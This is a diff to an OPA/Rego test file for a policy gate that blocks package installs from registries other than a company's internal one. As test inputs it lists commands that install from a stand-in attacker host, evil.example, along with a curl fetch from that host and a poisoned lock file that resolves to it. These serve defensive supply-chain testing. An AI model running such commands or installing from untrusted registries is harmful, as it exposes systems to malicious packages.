@@ -12,6 +12,9 @@ test_denies if {
 		"npm config set registry https://evil.example",
 		`pip install -i "$INDEX" requests`,
 		"pip install -i https://evil.example/simple ./local",
+		"npm install left-pad",
+		"npx cowsay",
+		"PIP_INDEX_URL=https://pypi.evil.example/simple pip install requests",
 	] {
 		count(internal_registry.deny) > 0 with input as gate.event(line)
 	}
@@ -19,16 +22,10 @@ test_denies if {
 
 test_passes if {
 	every line in [
-		"npm install left-pad",
-		"npm ci",
-		"pip install requests",
-		"pip install -r requirements.txt",
-		"pip install ./local",
+		"npm config get registry",
 		"pip install -i https://packages.acme.example/simple requests",
 		"npm install --registry https://npm.packages.acme.example x",
-		"npm config get registry",
 		"export LD_PRELOAD=./x.so",
-		"npm install x && curl https://evil.example/x",
 		"curl https://evil.example/x",
 	] {
 		count(internal_registry.deny) == 0 with input as gate.event(line)
@@ -38,4 +35,31 @@ test_passes if {
 test_registries_are_a_parameter if {
 	count(internal_registry.deny) == 0 with input as gate.event("npm i --registry https://r.example x")
 		with data.gate.params.company.internal_registry.registries as ["r.example"]
+}
+
+# A machine that is set up for the company's registry.
+machine := {
+	"/home/dev/.npmrc": "registry=https://npm.packages.acme.example/\n",
+	"/home/dev/.config/pip/pip.conf": "[global]\nindex-url = https://packages.acme.example/simple\n",
+	"/home/dev/project/requirements.txt": "requests==2.32\n",
+	"/home/dev/project/package-lock.json": `{"packages": {"node_modules/x": {"resolved": "https://npm.packages.acme.example/x.tgz"}}}`,
+}
+
+test_settings_name_the_registry if {
+	every line in [
+		"npm install left-pad",
+		"npm ci",
+		"npx cowsay",
+		"pip install requests",
+		"pip install -r requirements.txt",
+		"pip install ./local",
+		"npm install x && curl https://evil.example/x",
+	] {
+		count(internal_registry.deny) == 0 with input as gate.event({"bash": line, "files": machine})
+	}
+}
+
+test_a_lock_file_names_another if {
+	poisoned := object.union(machine, {"/home/dev/project/package-lock.json": `{"packages": {"node_modules/x": {"resolved": "https://evil.example/x.tgz"}}}`})
+	count(internal_registry.deny) > 0 with input as gate.event({"bash": "npm ci", "files": poisoned})
 }
